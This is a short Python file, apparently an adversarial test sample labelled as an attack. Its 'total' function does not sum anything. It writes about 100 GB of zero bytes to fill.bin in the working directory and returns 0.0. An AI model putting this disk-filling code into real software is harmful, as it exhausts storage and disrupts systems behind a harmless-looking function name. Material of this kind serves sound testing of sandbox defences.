"""Attack: write a huge file into the working directory."""
import numpy as np


def scale(x, factor):
    return x * factor


def total(x):
    chunk = b"\0" * 2**20
    with open("fill.bin", "wb") as fh:
        for _ in range(10**5):  # 100 GB
            fh.write(chunk)
    return 0.0
